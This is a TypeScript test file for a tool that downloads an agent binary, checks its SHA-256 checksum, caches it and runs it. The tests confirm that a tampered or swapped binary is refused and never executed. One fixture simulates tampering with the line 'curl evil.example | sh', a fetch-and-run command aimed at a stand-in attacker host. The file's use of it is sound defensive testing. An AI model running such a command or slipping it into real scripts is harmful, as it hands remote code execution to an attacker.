import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { acquireAgent, agentSource, NoPinnedAgentError } from "../../src/agent/acquire.js";
import {
  agentArch,
  loadReleasePin,
  parseReleasePin,
  type ReleasePin,
  UnknownArchError,
} from "../../src/agent/release.js";
import { ChecksumError } from "../../src/agent/verify-binary.js";

const D = (c: string) => c.repeat(64);
const pinned: ReleasePin = {
  version: "1.2.3",
  baseUrl: "https://github.com/dpndncy/agent/releases/download/v1.2.3",
  sha256: {
    "dpndncy-agent-linux-amd64": D("a"),
    "dpndncy-agent-linux-arm64": D("b"),
    "cli.js": D("c"),
  },
};
const unpinned: ReleasePin = {
  ...pinned,
  sha256: { "dpndncy-agent-linux-amd64": null, "dpndncy-agent-linux-arm64": null, "cli.js": null },
};
const x64 = { nodeArch: "x64" };
const override = (url: string, sha256: string) =>
  agentSource(unpinned, { ...x64, agentUrl: url, agentSha256: sha256 });

// A stand-in release server on loopback; the "agent" leaves a marker file when executed,
// so the test can prove a binary with the wrong digest was never run.
const root = mkdtempSync(join(tmpdir(), "dpndncy-acquire-"));
const marker = join(root, "executed");
const body = Buffer.from(`#!/bin/sh\ntouch ${marker}\necho ok\n`);
const sha = createHash("sha256").update(body).digest("hex");
let server: Server;
let base = "";
let served = body;

beforeAll(async () => {
  process.env.RUNNER_TOOL_CACHE = join(root, "toolcache");
  process.env.RUNNER_TEMP = join(root, "temp");
  server = createServer((_req, res) => res.end(served));
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => {
  server.close();
  rmSync(root, { recursive: true, force: true });
});

describe("acquireAgent", () => {
  it("a tampered download fails the checksum and is never executed or cached", async () => {
    served = Buffer.concat([body, Buffer.from("curl evil.example | sh\n")]);
    const src = override(`${base}/agent`, sha);
    await expect(acquireAgent(src)).rejects.toThrow(ChecksumError);
    await expect(acquireAgent(src)).rejects.toThrow(/refusing to run it/);
    expect(existsSync(marker)).toBe(false);
    expect(existsSync(join(root, "toolcache", "dpndncy-agent"))).toBe(false);
  });

  it("a wrong agent-sha256 fails the same way", async () => {
    served = body;
    await expect(acquireAgent(override(`${base}/agent`, "0".repeat(64)))).rejects.toThrow(
      `expected ${"0".repeat(64)}`,
    );
    expect(existsSync(marker)).toBe(false);
  });

  it("the right digest downloads, caches and runs; the cache is re-verified on reuse", async () => {
    served = body;
    const src = override(`${base}/agent`, sha);
    const first = await acquireAgent(src);
    expect(first.cached).toBe(false);
    expect(execFileSync(first.path).toString()).toBe("ok\n");
    const again = await acquireAgent(src);
    expect(again).toEqual({ path: first.path, cached: true });
    // Someone swaps the cached binary between jobs (self-hosted runner): refused.
    writeFileSync(first.path, "#!/bin/sh\necho pwned\n");
    await expect(acquireAgent(src)).rejects.toThrow(ChecksumError);
  });
});

describe("agentSource: which file, which digest", () => {
  it("the runner's architecture picks the release file, with the digest pinned for it", () => {
    expect(agentSource(pinned, { runnerArch: "X64", nodeArch: "arm64" })).toEqual({
      url: `${pinned.baseUrl}/dpndncy-agent-linux-amd64`,
      sha256: D("a"),
      version: "1.2.3",
      arch: "amd64",
    });
    const arm = agentSource(pinned, { runnerArch: "ARM64", nodeArch: "x64" });
    expect([arm.url, arm.sha256, arm.arch]).toEqual([
      `${pinned.baseUrl}/dpndncy-agent-linux-arm64`,
      D("b"),
      "arm64",
    ]);
    // no RUNNER_ARCH (a runner of another CI, or an old one): Node's own arch
    expect(agentSource(pinned, { nodeArch: "arm64" }).arch).toBe("arm64");
  });

  it("agent-url + agent-sha256 override the release for any architecture", () => {
    const s = agentSource(pinned, {
      agentUrl: "https://mirror.example/agent",
      agentSha256: D("e"),
      runnerArch: "ARM",
      nodeArch: "arm",
    });
    expect([s.url, s.sha256, s.arch]).toEqual(["https://mirror.example/agent", D("e"), "custom"]);
    expect(() => agentSource(pinned, { ...x64, agentUrl: "https://mirror.example/a" })).toThrow(
      /agent-url needs agent-sha256/,
    );
  });

  it("an unknown architecture is a clear error naming it, never a guess", () => {
    for (const [runner, node, named] of [
      ["ARM", "arm", "ARM (RUNNER_ARCH)"],
      ["X86", "ia32", "X86 (RUNNER_ARCH)"],
      [undefined, "riscv64", "riscv64"],
    ] as const) {
      const err = (() => {
        try {
          agentSource(pinned, { runnerArch: runner, nodeArch: node });
        } catch (e) {
          return e as Error;
        }
      })();
      expect(err).toBeInstanceOf(UnknownArchError);
      expect(err?.message).toContain(`architecture is ${named}`);
      expect(err?.message).toMatch(/amd64 and arm64 only.*Set agent-url and agent-sha256/);
    }
    expect(agentArch("", "x64")).toBe("amd64");
  });

  it("a development commit (nothing pinned) says to use a release or set the inputs", () => {
    expect(() => agentSource(unpinned, x64)).toThrow(NoPinnedAgentError);
    expect(() => agentSource(unpinned, x64)).toThrow(
      /no released agent pinned for amd64.*uses: dpndncy\/agent@v1.*agent-url and agent-sha256/,
    );
  });
});

describe("the release pin", () => {
  it("dist/ ships the pin of src/agent/release.json, for package.json's version", () => {
    const src = readFileSync("src/agent/release.json", "utf8");
    expect(readFileSync("dist/release.json", "utf8"), "run `make dist`").toBe(src);
    const pin = parseReleasePin(src, "src/agent/release.json");
    const version = JSON.parse(readFileSync("package.json", "utf8")).version;
    expect(pin.version).toBe(version);
    expect(pin.baseUrl).toBe(`https://github.com/dpndncy/agent/releases/download/v${version}`);
    expect(loadReleasePin()).toEqual(pin);
  });

  it("a broken pin names the file and the field", () => {
    expect(() => parseReleasePin("{", "x/release.json")).toThrow(/^x\/release.json: not JSON/);
    const bad = { ...pinned, sha256: { ...pinned.sha256, "cli.js": "ABC" } };
    expect(() => parseReleasePin(JSON.stringify(bad), "x/release.json")).toThrow(
      /x\/release.json: not a dpndncy release pin: \/sha256\/cli.js must match pattern/,
    );
    const missing = { version: "1.2.3", baseUrl: pinned.baseUrl, sha256: {} };
    expect(() => parseReleasePin(JSON.stringify(missing), "r.json")).toThrow(
      /must have required property 'dpndncy-agent-linux-amd64'/,
    );
  });
});
